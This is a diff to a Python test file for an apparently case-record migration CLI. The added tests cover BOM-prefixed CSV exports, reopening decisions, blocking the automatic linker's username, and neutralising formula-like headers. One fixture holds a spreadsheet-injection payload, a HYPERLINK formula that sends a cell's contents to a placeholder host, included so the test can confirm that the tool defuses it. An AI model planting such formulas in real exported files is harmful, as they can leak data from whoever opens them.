@@ -24,7 +24,7 @@ PACKAGE_FILES = {"records.csv", "manifest.csv", "closed_paper_catalogue.csv", "e
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8", newline="") as handle:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
         return list(csv.DictReader(handle))
 
 
@@ -274,3 +274,79 @@ def test_template_cells_are_exported_exactly_as_imported(workspace: Workspace, r
     assert [row[1] for row in cells] == [("Siobhán ", "s"), ("Zoë", "s")]
     assert [row[4] for row in cells] == [("\tTabbed", "s"), ("\rReturn", "s")]
     assert [row[5] for row in cells] == [("00123", "s"), ("0042 ", "s")]
+
+
+FORMULA_HEADERS = ['=HYPERLINK("http://x/?"&A2,"open")', "@Extra", "+Plus", "-Minus", "=1+1"]
+
+
+def test_template_headers_are_defused_and_reported(workspace: Workspace, run_cli: Callable[..., Result],
+                                                   tmp_path: Path) -> None:
+    """A header is a cell too: a live formula in the header row must not reach records.csv or the workbook."""
+    template = tmp_path / "headers.csv"
+    with template.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([["Case Reference", *FORMULA_HEADERS, "Forename"],
+                                      ["SGD-2024-0412", "a", "b", "c", "d", "e", "Zoë"]])
+    imported = run_cli("records", "import", str(template))
+    assert imported.exit_code == 0, imported.output
+    reported = [line for line in imported.output.splitlines() if line.split()[:2] == ["1", "formula_like_header"]]
+    assert len(reported) == len(FORMULA_HEADERS)
+    export(run_cli, tmp_path / "pkg")
+    with (tmp_path / "pkg" / "records.csv").open(encoding="utf-8-sig", newline="") as handle:
+        header = next(csv.reader(handle))
+    assert header == ["Case Reference", *("'" + h for h in FORMULA_HEADERS), "Forename", "scanned_documents", "attachments"]
+    sheet = load_workbook(tmp_path / "pkg" / "migration.xlsx")["records"]
+    cells = [(cell.value, cell.data_type) for cell in sheet[1]]
+    assert cells[1:1 + len(FORMULA_HEADERS)] == [(h, "s") for h in FORMULA_HEADERS]
+    assert all(data_type != "f" for _, data_type in cells)
+
+
+def test_every_csv_starts_with_a_byte_order_mark(state: dict[str, int], run_cli: Callable[..., Result],
+                                                 tmp_path: Path) -> None:
+    """UK Excel reads UTF-8 only after a BOM: without it Zoë shows as ZoÃ«."""
+    export(run_cli, tmp_path / "pkg")
+    tables = sorted((tmp_path / "pkg").glob("*.csv"))
+    assert len(tables) == 4
+    for table in tables:
+        data = table.read_bytes()
+        assert data.startswith(b"\xef\xbb\xbf") and not data[3:].startswith(b"\xef\xbb\xbf"), table.name
+    assert "Zoë" in (tmp_path / "pkg" / "records.csv").read_bytes()[3:].decode("utf-8")
+
+
+def test_reopen_from_the_command_line(state: dict[str, int], run_cli: Callable[..., Result]) -> None:
+    assert run_cli("link", str(state["review"]), "SGD-2024-0413").exit_code == 0
+    missing = run_cli("reopen", str(state["review"]))
+    assert missing.exit_code == 2 and "--reason" in missing.output
+    done = run_cli("reopen", str(state["review"]), "--reason", "linked by mistake")
+    assert done.exit_code == 0, done.output
+    assert "waits for review again" in done.output
+    assert f"id={state['review']}" in run_cli("status").output
+    again = run_cli("reopen", str(state["review"]), "--reason", "twice")
+    assert again.exit_code == 2 and "no decision by a person" in again.output
+    assert run_cli("link", str(state["review"]), "SGD-2024-0413").exit_code == 0
+
+
+def test_the_os_user_casescan_cannot_decide(state: dict[str, int], run_cli: Callable[..., Result],
+                                            monkeypatch: pytest.MonkeyPatch) -> None:
+    """'casescan' is the automatic linker's name: a person recorded as it would pass as the service."""
+    monkeypatch.setattr(getpass, "getuser", lambda: "casescan")
+    for args in (("link", str(state["review"]), "SGD-2024-0413"), ("reject", str(state["review"]))):
+        result = run_cli(*args)
+        assert result.exit_code == 2 and "automatic links" in result.output
+    refused = run_cli("users", "add", "CaseScan", "--role", "admin", input="twelve chars!\ntwelve chars!\n")
+    assert refused.exit_code == 2 and "automatic links" in refused.output
+
+
+def test_the_template_lacks_this_case_is_an_exception_with_the_note_and_not_a_no_go(
+        state: dict[str, int], run_cli: Callable[..., Result], tmp_path: Path, loaded: Workspace) -> None:
+    from catalogue.decisions import note_not_in_template
+
+    with open_database(loaded.database) as db:
+        note_not_in_template(db, state["unknown"], "alice", "=opened in 2023")
+    export(run_cli, tmp_path / "pkg")
+    unknown = [e for e in read_csv(tmp_path / "pkg" / "exceptions.csv") if e["kind"] == "unknown_reference"]
+    assert [(e["case_reference"], e["source_file"]) for e in unknown] == [("XYZ-2001-0001", "unknown.pdf")]
+    assert "template lacks this case" in unknown[0]["detail"] and "alice" in unknown[0]["detail"]
+    assert unknown[0]["detail"].endswith(": =opened in 2023")
+    report = json.loads((tmp_path / "pkg" / "reconciliation.json").read_text(encoding="utf-8"))
+    check = next(c for c in report["checks"] if c["name"] == "no_unknown_references")
+    assert check["passed"] and report["states"]["unknown_noted"] == 1 and report["states"]["unknown"] == 0
